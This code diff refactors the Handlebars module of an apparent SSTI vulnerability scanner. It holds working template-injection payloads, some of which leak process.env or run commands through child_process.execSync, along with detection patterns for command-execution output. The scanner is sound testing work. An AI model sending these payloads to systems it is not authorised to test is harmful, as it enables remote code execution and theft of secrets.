@@ -8,11 +8,124 @@ Author: SSTI Scanner Team
 License: MIT
 """
 
-import re
 import urllib.parse
-from typing import List, Dict, Any, Optional
+from functools import lru_cache
+from typing import Dict, Any, Tuple
 
-from .base import BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload
+from ._scan import _build_hyperscan_database, _hyperscan_hits, _matching, _scan_table, _text_table, hyperscan
+from .base import (
+    BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload, _build_get_url, _build_post_data,
+    _index_payloads, _inject_fields,
+)
+
+
+# Handlebars-specific patterns
+_DETECTION_PATTERNS = {
+    'math_result': [r'\b49\b', r'\b64\b', r'\b121\b'],
+    'object_disclosure': [r'function.*?\(', r'constructor', r'prototype', r'__proto__'],
+    'helper_execution': [r'#each', r'#if', r'#with', r'#unless'],
+    'js_execution': [r'require\(', r'process\.', r'global\.', r'Buffer\.'],
+}
+
+# Literal tokens left behind by server-side JavaScript execution
+_JS_INDICATORS = (
+    'require(', 'process.', 'global.', 'Buffer.', 'child_process', 'execSync', 'uid=', 'gid=',
+)
+
+# Literal fragments of Handlebars error messages
+_HANDLEBARS_ERRORS = ('Handlebars:', 'Missing helper', 'Parse error', 'Invalid path')
+
+# Every pattern is compiled once, at import.  Object disclosure is matched
+# against the lower-cased response, everything else case-sensitively
+_MATH_TABLE = _scan_table(_DETECTION_PATTERNS['math_result'], flags=0)
+_OBJECT_TABLE = _scan_table(_DETECTION_PATTERNS['object_disclosure'])
+_JS_INDICATOR_TABLE = _text_table(_JS_INDICATORS)
+_HANDLEBARS_ERROR_TABLE = _text_table(_HANDLEBARS_ERRORS)
+
+# Tables Hyperscan matches: (table, case-insensitive, plain text).
+# math_result is left to re (Hyperscan has no Unicode \b)
+_HYPERSCAN_TABLES = (
+    (_OBJECT_TABLE, True, False),
+    (_JS_INDICATOR_TABLE, False, True),
+    (_HANDLEBARS_ERROR_TABLE, False, True),
+)
+
+# With Hyperscan installed, all of those are matched in one scan of the response
+_HYPERSCAN_DATABASE = _build_hyperscan_database(_HYPERSCAN_TABLES) if hyperscan is not None else None
+
+
+# Basic math and expression payloads
+_BASIC_PAYLOADS = (
+    "{{7*7}}", "{{8*8}}", "{{11*11}}", "{{this}}", "{{constructor}}", 
+    "{{constructor.constructor}}", "{{constructor.constructor('return 7*7')()}}",
+    "{{constructor.constructor('return process.env')()}}",
+    "{{constructor.constructor('return global.process.mainModule.require')()}}",
+    "{{constructor.constructor('return global.process.mainModule.require(\"child_process\").execSync(\"id\")')()}}",
+)
+
+# Helper-based payloads
+_HELPER_PAYLOADS = (
+    "{{#with this}}{{constructor.constructor('return 7*7')()}}{{/with}}",
+    "{{#each constructor}}{{@key}}{{/each}}",
+    "{{lookup constructor 'constructor'}}",
+    "{{lookup (lookup this 'constructor') 'constructor'}}",
+)
+
+# URL-encoded variants
+_URL_PAYLOADS = ("%7B%7B7%2A7%7D%7D", "%7B%7Bthis%7D%7D")
+
+
+def _build_payload(payload_str: str) -> Payload:
+    """Classify a payload string by its context and type."""
+    context = "url" if payload_str.startswith('%') else "html"
+    payload_type = "helper" if "#with" in payload_str or "#each" in payload_str else "math" if "*" in payload_str else "object_access"
+    
+    return Payload(
+        payload=payload_str,
+        type=payload_type,
+        context=context,
+        description=f"Handlebars {payload_type} payload"
+    )
+
+
+# Built and classified once at import; every engine instance shares them
+_PAYLOADS: Tuple[Payload, ...] = tuple(
+    _build_payload(payload_str) for payload_str in _BASIC_PAYLOADS + _HELPER_PAYLOADS + _URL_PAYLOADS
+)
+
+# Expressions whose results the math_result patterns look for
+_MATH_EXPRESSIONS = ('7*7', '8*8', '11*11')
+
+
+def _is_math_probe(payload: str) -> bool:
+    """Whether the payload computes one of the expected math results."""
+    return any(expression in payload for expression in _MATH_EXPRESSIONS)
+
+
+# Classified once for the built-in payloads; ad-hoc payloads fall back to
+# _is_math_probe at analysis time.  Payload.type is not enough here: the
+# "#with" helper payload also computes 7*7.
+_MATH_PROBES: Dict[str, bool] = {p.payload: _is_math_probe(p.payload) for p in _PAYLOADS}
+
+
+# Context and type lookups become a single dict access
+_PAYLOADS_BY_CONTEXT = _index_payloads(_PAYLOADS, 'context')
+_PAYLOADS_BY_TYPE = _index_payloads(_PAYLOADS, 'type')
+
+
+# Single-pass HTML escaping; '&' is escaped so it is never read as an entity
+_HTML_ESCAPE_TABLE = str.maketrans({'&': '&amp;', '<': '&lt;', '>': '&gt;'})
+
+
+# The payload set is small and fixed, so encoded forms are memoized
+@lru_cache(maxsize=512)
+def _url_encode(payload: str) -> str:
+    return urllib.parse.quote(payload)
+
+
+@lru_cache(maxsize=512)
+def _html_encode(payload: str) -> str:
+    return payload.translate(_HTML_ESCAPE_TABLE)
 
 
 class HandlebarsEngine(BaseTemplateEngine):
@@ -28,53 +141,11 @@ class HandlebarsEngine(BaseTemplateEngine):
         self.name = "handlebars"
         self.description = "Handlebars template engine (Node.js)"
         self.payloads = self._load_payloads()
-        
-        # Handlebars-specific patterns
-        self.detection_patterns = {
-            'math_result': [r'\b49\b', r'\b64\b', r'\b121\b'],
-            'object_disclosure': [r'function.*?\(', r'constructor', r'prototype', r'__proto__'],
-            'helper_execution': [r'#each', r'#if', r'#with', r'#unless'],
-            'js_execution': [r'require\(', r'process\.', r'global\.', r'Buffer\.'],
-        }
+        self.detection_patterns = _DETECTION_PATTERNS
     
-    def _load_payloads(self) -> List[Payload]:
-        """Load Handlebars-specific SSTI payloads."""
-        payloads = []
-        
-        # Basic math and expression payloads
-        basic_payloads = [
-            "{{7*7}}", "{{8*8}}", "{{11*11}}", "{{this}}", "{{constructor}}", 
-            "{{constructor.constructor}}", "{{constructor.constructor('return 7*7')()}}",
-            "{{constructor.constructor('return process.env')()}}",
-            "{{constructor.constructor('return global.process.mainModule.require')()}}",
-            "{{constructor.constructor('return global.process.mainModule.require(\"child_process\").execSync(\"id\")')()}}",
-        ]
-        
-        # Helper-based payloads
-        helper_payloads = [
-            "{{#with this}}{{constructor.constructor('return 7*7')()}}{{/with}}",
-            "{{#each constructor}}{{@key}}{{/each}}",
-            "{{lookup constructor 'constructor'}}",
-            "{{lookup (lookup this 'constructor') 'constructor'}}",
-        ]
-        
-        # URL-encoded variants
-        url_payloads = ["%7B%7B7%2A7%7D%7D", "%7B%7Bthis%7D%7D"]
-        
-        all_payload_strings = basic_payloads + helper_payloads + url_payloads
-        
-        for i, payload_str in enumerate(all_payload_strings):
-            context = "url" if payload_str.startswith('%') else "html"
-            payload_type = "helper" if "#with" in payload_str or "#each" in payload_str else "math" if "*" in payload_str else "object_access"
-            
-            payloads.append(Payload(
-                payload=payload_str,
-                type=payload_type,
-                context=context,
-                description=f"Handlebars {payload_type} payload"
-            ))
-        
-        return payloads
+    def _load_payloads(self) -> Tuple[Payload, ...]:
+        """Return the shared Handlebars SSTI payloads."""
+        return _PAYLOADS
     
     async def test_payload(self, url: str, payload: str, **kwargs) -> EngineResult:
         """Test payload against target URL."""
@@ -88,11 +159,13 @@ class HandlebarsEngine(BaseTemplateEngine):
         
         try:
             if method.upper() == 'GET':
-                test_url = f"{url}?test={payload}" if '?' not in url else url.replace('INJECT', payload)
+                test_url = _build_get_url(url, payload)
                 response = await http_client.get(test_url, headers=headers)
             else:
-                test_data = data.copy() if data else {}
-                test_data['test'] = payload
+                inject_fields = kwargs.get('inject_fields')
+                if inject_fields is None:
+                    inject_fields = _inject_fields(data)
+                test_data = _build_post_data(data, payload, inject_fields)
                 response = await http_client.post(url, data=test_data, headers=headers)
             
             return self.analyze_response("", payload, response.get('text', ''))
@@ -101,65 +174,66 @@ class HandlebarsEngine(BaseTemplateEngine):
             return EngineResult(False, ConfidenceLevel.LOW, payload, "", f"Request failed: {e}", self.name)
     
     def analyze_response(self, original_response: str, payload: str, response: str) -> EngineResult:
-        """Analyze response for Handlebars SSTI indicators."""
+        """Analyze the first ``max_scan_bytes`` characters for Handlebars SSTI indicators."""
         if not response:
-            return EngineResult(False, ConfidenceLevel.LOW, payload, response, "Empty response", self.name)
+            return EngineResult(False, ConfidenceLevel.LOW, payload, "", "Empty response", self.name)
+        
+        snippet = response[:500]
         
-        evidence_parts = []
-        confidence = ConfidenceLevel.LOW
-        is_vulnerable = False
+        response = response[:self.max_scan_bytes]
+        hits = _hyperscan_hits(_HYPERSCAN_DATABASE, response) if _HYPERSCAN_DATABASE is not None else None
         
         # Check for math results
-        if any(p in payload for p in ['7*7', '8*8', '11*11']):
-            for pattern in self.detection_patterns['math_result']:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Math operation executed: {pattern}")
-                    confidence = ConfidenceLevel.HIGH
-                    is_vulnerable = True
+        is_math_probe = _MATH_PROBES.get(payload)
+        if is_math_probe is None:
+            is_math_probe = _is_math_probe(payload)
+        math_hits = _matching(_MATH_TABLE, response) if is_math_probe else ()
         
         # Check for object disclosure
-        for pattern in self.detection_patterns['object_disclosure']:
-            if re.search(pattern, response, re.IGNORECASE):
-                evidence_parts.append(f"Object disclosure: {pattern}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        response_lower = response.lower() if hits is None else response
+        object_hits = _matching(_OBJECT_TABLE, response_lower, hits)
         
         # Check for JavaScript execution indicators
-        js_indicators = ['require(', 'process.', 'global.', 'Buffer.', 'child_process', 'execSync', 'uid=', 'gid=']
-        for indicator in js_indicators:
-            if indicator in response:
-                evidence_parts.append(f"JavaScript execution: {indicator}")
-                confidence = ConfidenceLevel.HIGH
-                is_vulnerable = True
+        js_hits = _matching(_JS_INDICATOR_TABLE, response, hits)
         
         # Handlebars errors
-        handlebars_errors = ['Handlebars:', 'Missing helper', 'Parse error', 'Invalid path']
-        for error in handlebars_errors:
-            if error in response:
-                evidence_parts.append(f"Handlebars error: {error}")
-                confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                is_vulnerable = True
+        error_hits = _matching(_HANDLEBARS_ERROR_TABLE, response, hits)
+        
+        # Most responses match nothing; skip building any evidence for them
+        if not (math_hits or object_hits or js_hits or error_hits):
+            return EngineResult(False, ConfidenceLevel.LOW, payload, snippet, "No Handlebars SSTI indicators", self.name)
+        
+        # Math and JavaScript hits are HIGH; objects and errors alone are MEDIUM
+        if math_hits or js_hits:
+            confidence = ConfidenceLevel.HIGH
+        else:
+            confidence = ConfidenceLevel.MEDIUM
         
-        evidence = "Handlebars SSTI detected: " + "; ".join(evidence_parts) if evidence_parts else "No Handlebars SSTI indicators"
-        return EngineResult(is_vulnerable, confidence, payload, response[:500], evidence, self.name)
+        evidence = "Handlebars SSTI detected: " + "; ".join([
+            *(f"Math operation executed: {pattern}" for pattern in math_hits),
+            *(f"Object disclosure: {pattern}" for pattern in object_hits),
+            *(f"JavaScript execution: {indicator}" for indicator in js_hits),
+            *(f"Handlebars error: {error}" for error in error_hits),
+        ])
+        return EngineResult(True, confidence, payload, snippet, evidence, self.name)
     
-    def get_payloads_for_context(self, context: str) -> List[Payload]:
-        return [p for p in self.payloads if p.context == context]
+    def get_payloads_for_context(self, context: str) -> Tuple[Payload, ...]:
+        return _PAYLOADS_BY_CONTEXT.get(context, ())
     
-    def get_payloads_by_type(self, payload_type: str) -> List[Payload]:
-        return [p for p in self.payloads if p.type == payload_type]
+    def get_payloads_by_type(self, payload_type: str) -> Tuple[Payload, ...]:
+        return _PAYLOADS_BY_TYPE.get(payload_type, ())
     
     def encode_payload(self, payload: str, context: str) -> str:
         if context == "url":
-            return urllib.parse.quote(payload)
+            return _url_encode(payload)
         elif context == "html":
-            return payload.replace('<', '&lt;').replace('>', '&gt;')
+            return _html_encode(payload)
         return payload
     
     def get_info(self) -> Dict[str, Any]:
         return {
             'name': self.name, 'description': self.description, 'payloads': len(self.payloads),
-            'contexts': list(set(p.context for p in self.payloads)),
-            'types': list(set(p.type for p in self.payloads)),
+            'contexts': list(_PAYLOADS_BY_CONTEXT),
+            'types': list(_PAYLOADS_BY_TYPE),
             'framework': 'Handlebars', 'language': 'JavaScript', 'syntax': '{{expression}}'
         }